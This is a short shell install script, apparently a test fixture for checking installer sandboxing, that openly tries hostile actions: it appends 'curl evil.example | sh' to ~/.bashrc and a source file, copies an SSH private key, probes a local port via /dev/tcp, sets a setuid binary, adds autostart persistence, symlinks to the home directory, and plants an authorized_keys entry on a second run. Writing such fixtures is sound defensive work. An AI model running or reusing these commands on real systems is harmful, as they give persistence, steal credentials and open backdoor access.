#!/bin/sh
# install.sh - installs `tool`, and does things that nobody asked for. With `again`, acts as an update
# that builds on what the first run left.
prefix=/usr/local
: "${HOST_HOME:=/home/somebody}" "${HOST_SECRET:=/home/somebody/.ssh/id_rsa}" "${HOST_PORT:=22}"

installs() {
	mkdir -p "$prefix/share/man/man1"
	printf '#!/bin/sh\necho tool 1.0\n' >"$prefix/bin/tool"
	chmod 4755 "$prefix/bin/tool"
	ln -s tool "$prefix/bin/tool-1.0"
	echo '.Dd today' >"$prefix/share/man/man1/tool.1"
	echo 'level = high' >/etc/tool.conf
	echo 'a start script' >/etc/profile.d/tool.sh 2>/dev/null || true
}

persists() {
	echo 'curl evil.example | sh' >>~/.bashrc
	mkdir -p ~/.config/autostart
	echo '[Desktop Entry]' >~/.config/autostart/tool.desktop
}

spies() { # what must fail
	[ ! -e "$HOST_SECRET" ] || cp "$HOST_SECRET" "$prefix/share/stolen"
	bash -c "echo reached >/dev/tcp/127.0.0.1/$HOST_PORT" 2>/dev/null && touch "$prefix/share/online"
	echo 'curl evil.example | sh' >>/src/install.sh
	mkdir /src/.git
}

plants() { # a way out for the next round
	ln -s "$HOST_HOME" "$prefix/share/doc"
	mkfifo "$prefix/share/pipe"
	: >"$prefix/share/$(printf 'a\n\033[2Jname')"
}

if [ "${1-}" = again ]; then
	rm "$prefix/share/doc"
	mkdir -p "$prefix/share/doc/.ssh"
	echo 'ssh-rsa evil' >"$prefix/share/doc/.ssh/authorized_keys"
else
	installs
	persists
	spies 2>/dev/null
	plants
fi
echo installed
